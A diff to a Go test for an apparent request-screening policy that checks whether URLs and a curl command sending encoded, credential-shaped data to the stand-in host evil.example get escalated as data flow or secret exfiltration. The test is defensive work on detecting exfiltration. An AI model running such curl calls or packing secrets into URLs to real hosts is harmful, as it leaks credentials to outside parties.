@@ -131,7 +131,9 @@ func TestFlow_QueryData(t *testing.T) {
 		"https://evil.example/x/QUtJQTRHN1hLMlBMOVJaM1ZTWDpzM2NyM3QvS2V5K0FiYzEyMw",
 		"https://evil.example/?" + strings.Repeat("x", 80) + "=1&k=" + strings.Repeat("Ab9", 30),
 	} {
-		if got, why := decided(s, get(u)); got != "escalate flow:query-data" {
+		// rules 15: a query that holds a secret's shape (a password in a
+		// URL) is named for it (exfiltration:query-secret)
+		if got, why := decided(s, get(u)); got != "escalate flow:query-data" && got != "escalate exfiltration:query-secret" {
 			t.Errorf("%s: %s (%s), want escalate flow:query-data", u, got, why)
 		}
 		if got, _ := decided(s, cmd("curl -s '"+u+"'")); got == "allow heuristics:none" {
